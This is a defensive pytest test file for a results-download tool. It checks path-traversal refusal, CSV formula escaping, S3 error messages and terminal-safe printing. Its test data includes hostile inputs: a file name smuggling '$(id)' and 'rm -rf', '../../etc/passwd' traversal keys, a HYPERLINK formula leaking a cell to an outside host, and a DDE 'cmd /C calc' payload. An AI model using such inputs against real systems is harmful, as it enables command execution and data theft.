"""The pure parts of `results`: key -> local path safety, listing filters, file parsing, CSV, error lines."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
from botocore.exceptions import ClientError, EndpointConnectionError, NoCredentialsError

from cluster_tools.cli.results_cmds import _human, _printable
from cluster_tools.errors import ConfigError
from cluster_tools.services.runs.results import (
    ResultObject,
    UnsafeKey,
    _collect,
    check_subject_names,
    local_path,
    plan_download,
    summarize_usage,
)
from cluster_tools.services.runs.results_collect import Table, check_file_name, parse_rows, spreadsheet_safe, write_csv
from cluster_tools.transport.s3 import translate_s3_error


def obj(key: str, size: int = 1) -> ResultObject:
    return ResultObject(key.partition("/")[0], key, size, "2024-05-01T12:00:00.000Z")


# --- where a key lands ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "key",
    [
        "sub-01/a.txt",
        "sub-01/deep/er/file name with spaces.txt",
        'sub-01/it\'s "quoted".csv',
        "sub-01/$(id)`x`;rm -rf.txt",
        "sub-01/ünïcødé.json",
        "sub-01/..hidden",
        "sub-01/a..b/c",
    ],
)
def test_safe_keys_land_under_the_subject(tmp_path: Path, key: str):
    path = local_path(tmp_path, obj(key))
    assert path == tmp_path / key and tmp_path in path.parents


@pytest.mark.parametrize(
    "key",
    [
        "sub-01/../../etc/passwd",
        "sub-01/../sub-02/x",
        "sub-01/a/../../../x",
        "sub-01/..",
        "sub-01//etc/passwd",  # an absolute path below the subject
    ],
)
def test_keys_that_would_escape_are_refused(tmp_path: Path, key: str):
    with pytest.raises(UnsafeKey):
        local_path(tmp_path, obj(key))


def test_a_subject_that_is_not_an_id_is_refused(tmp_path: Path):
    for subject in ("..", ".", "", ".clustertools"):
        with pytest.raises(UnsafeKey):
            local_path(tmp_path, ResultObject(subject, f"{subject}/x", 1, ""))


def test_plan_skips_same_size_refuses_unsafe_and_ignores_directory_markers(tmp_path: Path):
    (tmp_path / "sub-01").mkdir()
    (tmp_path / "sub-01" / "same.txt").write_bytes(b"abc")
    (tmp_path / "sub-01" / "other.txt").write_bytes(b"abcdef")
    plan = plan_download(
        [
            obj("sub-01/same.txt", 3),
            obj("sub-01/other.txt", 3),
            obj("sub-01/new/x.bin", 7),
            obj("sub-01/../x", 1),
            obj("sub-01/dir/", 0),
        ],
        tmp_path,
    )
    assert plan.skipped == 1 and plan.refused == ["sub-01/../x"]
    assert [d.key for d in plan.todo] == ["sub-01/other.txt", "sub-01/new/x.bin"] and plan.bytes == 10
    assert (tmp_path / "sub-01" / "new").is_dir() and not (tmp_path / "x").exists()


def test_a_file_where_a_directory_must_go_is_a_failure_not_a_crash(tmp_path: Path):
    (tmp_path / "sub-01").mkdir()
    (tmp_path / "sub-01" / "a").write_text("file")
    plan = plan_download([obj("sub-01/a/b.txt")], tmp_path)
    assert list(plan.failed) == ["sub-01/a/b.txt"] and not plan.todo


# --- listing --------------------------------------------------------------------------------------


def page(*keys: str) -> list[dict]:
    return [{"Key": k, "Size": len(k), "LastModified": "2024-05-01T12:00:00.000Z"} for k in keys]


def test_collect_keeps_subjects_outputs_only():
    pages = [
        page("p/r/.clustertools/records/1.json", "p/r/stray.txt", "p/r/sub-1/a", "p/r/sub-1/b c"),
        page("p/r/bad subject/x", "p/r/sub-2", "p/r/sub-2/", "p/r/sub-2/d/e.txt"),
    ]
    listing = _collect(pages, len("p/r/"), None)
    assert [o.key for o in listing.objects] == ["sub-1/a", "sub-1/b c", "sub-2/", "sub-2/d/e.txt"]
    assert [o.subject for o in listing.objects] == ["sub-1", "sub-1", "sub-2", "sub-2"]
    assert listing.objects[3].path == "d/e.txt" and listing.ignored == 3
    assert [o.key for o in _collect(pages, len("p/r/"), {"sub-2"}).objects] == ["sub-2/", "sub-2/d/e.txt"]


def test_subject_arguments_must_be_subject_ids():
    assert check_subject_names(["sub-01", "A.b_c"]) == ["sub-01", "A.b_c"]
    for bad in ("../x", "a/b", ".clustertools", "", "-x", "with space"):
        with pytest.raises(ConfigError):
            check_subject_names([bad])


def test_usage_per_subject_and_total():
    usage = summarize_usage([obj("b/x", 5), obj("a/y", 1), obj("b/z", 10)])
    assert [(u.subject, u.objects, u.bytes) for u in usage.subjects] == [("a", 1, 1), ("b", 2, 15)]
    assert (usage.objects, usage.bytes) == (3, 16)
    assert usage.to_json()["subjects"][1] == {"subject": "b", "objects": 2, "bytes": 15}


# --- collect --------------------------------------------------------------------------------------


def test_parse_rows_reads_json_objects_lists_lines_csv_and_tsv():
    assert parse_rows("m.json", b'{"a": 1}') == [{"a": 1}]
    assert parse_rows("m.json", b'[{"a": 1}, {"b": 2}]') == [{"a": 1}, {"b": 2}]
    assert parse_rows("m.jsonl", b'{"a": 1}\n\n{"a": 2}\n') == [{"a": 1}, {"a": 2}]
    assert parse_rows("t.csv", '\ufeffa,b\n1,"x, y"\n'.encode()) == [{"a": "1", "b": "x, y"}]
    assert parse_rows("t.tsv", b"a\tb\n1\t2\n") == [{"a": "1", "b": "2"}]
    assert parse_rows("noext", b' {"a": 1}') == [{"a": 1}]
    assert parse_rows("noext", b"a,b\n1,2\n") == [{"a": "1", "b": "2"}]


@pytest.mark.parametrize("data", [b"not json", b"\xff\xfe"])
def test_parse_rows_refuses_what_is_not_a_table(data: bytes):
    with pytest.raises((ValueError, UnicodeDecodeError)):
        parse_rows("m.json", data)


def test_scalars_and_lists_are_one_row_each():
    assert parse_rows("acc.json", b"0.93") == [{"value": 0.93}]
    assert parse_rows("m.json", b"[1, 2]") == [{"value": [1, 2]}]
    assert parse_rows("m.json", b'"text"') == [{"value": "text"}]
    assert parse_rows("m.jsonl", b"1\n2\n") == [{"value": 1}, {"value": 2}]


def test_file_names_stay_under_the_subject():
    assert check_file_name("qc/summary.csv") == "qc/summary.csv"
    for bad in ("", "/etc/passwd", "../sub-02/m.json", "a//b", "dir/"):
        with pytest.raises(ConfigError):
            check_file_name(bad)


def test_write_csv_renders_missing_nested_and_boolean_cells():
    table = Table(
        columns=["subject", "a", "b", "c"],
        rows=[{"subject": "s1", "a": 1.5, "b": {"x": [1, 2]}}, {"subject": "s2", "c": True, "a": None}],
    )
    out = io.StringIO()
    write_csv(table, out)
    assert out.getvalue() == 'subject,a,b,c\ns1,1.5,"{""x"":[1,2]}",\ns2,,,true\n'


@pytest.mark.parametrize(
    "cell, shown",
    [
        ('=HYPERLINK("http://x/?"&A1,"ok")', '\'=HYPERLINK("http://x/?"&A1,"ok")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.5", "-3.5"),
        ("+2", "+2"),
        ("-1e-3", "-1e-3"),
        (-4, -4),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_formulas_are_escaped_numbers_are_not(cell, shown):
    assert spreadsheet_safe(cell) == shown


def test_collected_csv_escapes_formula_cells_and_column_names():
    table = Table(
        columns=["subject", "=cmd()", "score"],
        rows=[{"subject": "s1", "=cmd()": "@x", "score": "-0.25"}, {"subject": "s2", "score": "=1+1"}],
    )
    out = io.StringIO()
    write_csv(table, out)
    assert out.getvalue() == "subject,'=cmd(),score\ns1,'@x,-0.25\ns2,,'=1+1\n"


# --- errors and printing --------------------------------------------------------------------------


def client_error(code: str, message: str = "msg") -> ClientError:
    return ClientError({"Error": {"Code": code, "Message": message}}, "ListObjectsV2")


def test_s3_errors_become_one_line_with_a_hint():
    missing = translate_s3_error(client_error("NoSuchBucket"), "cannot list s3://nope/r/", bucket="nope")
    assert "bucket nope does not exist" in missing.one_line() and missing.hint
    denied = translate_s3_error(client_error("AccessDenied"), "cannot list s3://b/r/")
    assert "access denied" in denied.one_line() and "credentials" in denied.hint
    down = translate_s3_error(EndpointConnectionError(endpoint_url="http://127.0.0.1:9"), "cannot list")
    assert "cannot reach the S3 endpoint" in down.one_line() and "sandbox status" in down.hint
    assert "aws configure" in translate_s3_error(NoCredentialsError(), "x").hint
    other = translate_s3_error(client_error("SlowDown", "Please\nreduce"), "x")
    assert "\n" not in other.one_line() and "SlowDown" in other.one_line()


def test_keys_print_on_one_line_and_sizes_for_people():
    assert _printable("sub-1/a b\"c'.txt") == "sub-1/a b\"c'.txt"
    assert _printable("sub-1/evil\nname\x1b[31m") == "sub-1/evil\\nname\\x1b[31m"
    assert [_human(n) for n in (0, 1023, 1024, 5 * 1024**3)] == ["0 B", "1023 B", "1.0 KiB", "5.0 GiB"]
